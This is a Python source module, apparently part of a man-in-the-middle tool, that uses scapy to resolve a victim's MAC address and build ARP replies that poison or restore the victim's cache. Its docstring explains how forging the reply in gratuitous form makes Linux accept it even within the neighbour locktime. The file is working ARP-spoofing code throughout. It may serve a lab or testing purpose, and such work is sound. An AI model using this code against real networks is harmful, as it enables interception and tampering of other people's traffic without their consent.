"""ARP for the MITM: resolving a victim's MAC and the gratuitous-form replies that poison
or restore its cache (built with scapy, sent by the caller).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from common.netstate import LocalInterface

RESOLVE_TIMEOUT_S = 1.0
RESOLVE_TRIES = 3


@dataclass(frozen=True)
class Victim:
    """A victim's address, its MAC as seen on the wire, and what the plan says."""

    name: str
    ip: str
    mac: str
    plan_mac: str


def resolve_mac(iface: LocalInterface, ip: str) -> str | None:
    """One ARP who-has per try (at most RESOLVE_TRIES) to ``ip``; the MAC that answered."""
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import srp

    for _ in range(RESOLVE_TRIES):
        answered, _unanswered = srp(
            Ether(src=iface.mac, dst="ff:ff:ff:ff:ff:ff") /
            ARP(op=1, hwsrc=iface.mac, psrc=iface.ip, pdst=ip),
            iface=iface.name, timeout=RESOLVE_TIMEOUT_S, verbose=False)
        for _sent, reply in answered:
            if reply.haslayer(ARP) and reply[ARP].op == 2 and reply[ARP].psrc == ip:
                return str(reply[ARP].hwsrc)
    return None


def claim_frame(iface: LocalInterface, to: Victim, about_ip: str, about_mac: str) -> Any:
    """A unicast gratuitous-form ARP reply telling ``to`` that ``about_ip`` is at ``about_mac``.

    Sender IP = target IP and sender MAC = target MAC make Linux treat it as gratuitous and
    apply it even within the neighbour ``locktime``; the Ethernet source stays our own MAC.
    """
    from scapy.layers.l2 import ARP, Ether

    return (Ether(src=iface.mac, dst=to.mac) /
            ARP(op=2, hwsrc=about_mac, psrc=about_ip, hwdst=about_mac, pdst=about_ip))

